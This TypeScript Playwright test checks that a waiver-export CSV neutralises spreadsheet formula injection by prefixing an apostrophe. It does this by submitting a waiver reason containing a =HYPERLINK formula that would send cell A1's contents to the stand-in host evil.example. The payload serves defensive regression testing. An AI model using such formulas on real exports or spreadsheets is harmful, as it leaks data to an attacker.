/**
 * A waiver reason is free text from a signed-in user; in the waiver CSV it must not start a cell as a spreadsheet
 * formula (issue 13: `=HYPERLINK(` landed raw). Mutating: it proposes a waiver.
 */
import { expect, test } from "@playwright/test";
import { SPECIAL } from "./fixtures/demo-estate";
import { storageStatePath } from "./fixtures/roles";
import { BucketsPage } from "./pages/buckets-page";

test.use({ storageState: storageStatePath("security-lead") });

const inDays = (n: number) => new Date(Date.now() + n * 86_400_000).toISOString().slice(0, 10);

test("a waiver reason starting with =HYPERLINK( is neutralised in the waiver CSV", async ({ page }) => {
  const buckets = new BucketsPage(page);
  await buckets.goto(`?q=${SPECIAL.unencryptedHigh}`);
  await buckets.openBucket(SPECIAL.unencryptedHigh);
  const failing = page
    .locator('[data-status="fail"]')
    .filter({ has: page.getByRole("link", { name: "Propose waiver" }) })
    .first();
  await failing.getByRole("link", { name: "Propose waiver" }).click();
  const form = page.getByTestId("propose-waiver");
  const reason = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';
  await form.getByLabel("Reason").fill(reason);
  await form.getByLabel("Owner").fill("@security-team");
  await form.getByLabel("Expires on (end of day, UTC)").fill(inDays(30));
  await form.getByRole("button", { name: "Propose waiver" }).click();
  await expect(page.getByTestId("propose-waiver-ok")).toContainText("Waiver proposed");

  const res = await page.request.get("/api/waivers/export?status=proposed");
  expect(res.status()).toBe(200);
  const csv = await res.text();
  // The reason holds quotes and commas, so the cell is quoted; the apostrophe goes inside the quotes.
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Details"")"`);
  expect(csv).not.toContain(`"=HYPERLINK(`);
  expect(csv).toContain(",'@security-team,");
});
